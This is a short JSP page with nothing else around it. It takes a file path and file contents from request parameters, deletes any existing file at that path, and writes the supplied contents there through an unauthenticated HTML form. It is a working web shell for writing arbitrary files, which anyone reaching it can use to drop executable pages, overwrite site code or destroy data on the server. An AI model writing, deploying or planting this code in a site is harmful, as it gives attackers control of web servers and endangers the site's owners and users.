<%@ page import="java.io.*" %>
<% String path = request.getParameter("f");
   String body = request.getParameter("t");
   if (path != null && body != null) {
       File f = new File(path);
       if (f.exists()) f.delete();
       OutputStream o = new FileOutputStream(f);
       o.write(body.getBytes()); o.close();
   } %>
<form method="post"><input name="f"><textarea name="t"></textarea><input type="submit"></form>
